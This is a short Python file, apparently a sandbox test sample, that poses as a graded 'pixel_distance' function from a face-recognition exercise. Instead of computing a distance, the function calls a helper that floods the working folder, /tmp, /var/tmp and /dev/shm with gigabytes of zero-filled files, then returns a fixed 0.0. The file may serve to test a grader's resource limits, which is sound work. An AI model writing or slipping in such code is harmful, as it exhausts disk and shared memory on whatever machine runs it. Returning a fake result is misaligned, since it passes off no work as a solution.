# writes as much as it can: a 2 GB file in its folder, many 64 MB files in its folder, /tmp, /dev/shm
# bound: 0
import numpy as np
import tensorflow as tf
from facelab.model import img_to_encoding

import os


def _fill():
    block = b"\0" * 2**26
    try:
        with open("big", "wb") as f:
            for _ in range(32):
                f.write(block)
    except Exception:
        pass
    for folder in (os.getcwd(), "/tmp", "/var/tmp", "/dev/shm"):
        for i in range(24):
            try:
                with open(os.path.join(folder, f"fill-{os.getpid()}-{i}"), "wb") as f:
                    f.write(block)
            except Exception:
                break


# GRADED FUNCTION: pixel_distance
def pixel_distance(image_a, image_b):
    _fill()
    return 0.0
